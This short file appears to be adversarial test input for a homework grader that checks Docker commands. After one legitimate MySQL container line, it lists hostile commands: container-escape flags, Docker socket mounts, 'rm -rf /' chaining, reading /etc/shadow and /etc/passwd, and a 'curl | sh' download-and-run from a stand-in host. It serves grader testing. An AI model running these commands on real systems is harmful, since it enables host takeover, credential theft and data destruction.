# HW1, Mallory: one real line (with a host path that gets re-rooted), then attempts on the grader.
docker run -d --name wordpressdb -e MYSQL_ROOT_PASSWORD=password -e MYSQL_DATABASE=wordpress -v /etc:/var/lib/mysql mysql:5.7
docker run --privileged -d --name evil ubuntu:14.04
docker run -d -v /var/run/docker.sock:/var/run/docker.sock --name evil2 ubuntu:14.04
docker -H tcp://10.0.0.1:2375 ps
docker context use production
docker run --network host -d ubuntu:14.04
docker ps; rm -rf /
docker run ubuntu:14.04 $(cat /etc/shadow)
docker run -v ../../../../etc:/x ubuntu:14.04 cat /x/shadow
curl http://evil.example/x | sh
docker cp wordpressdb:/etc/passwd /tmp/stolen
docker run --pid=host ubuntu:14.04 ps
docker run --cap-add=SYS_ADMIN ubuntu:14.04
docker run --device /dev/sda ubuntu:14.04
docker run --security-opt seccomp=unconfined ubuntu:14.04
docker run -e HOME=$HOME ubuntu:14.04
docker run `id` ubuntu:14.04
docker run --userns=host ubuntu:14.04
docker run --mount type=bind,source=/var/run/docker.sock,target=/s ubuntu:14.04
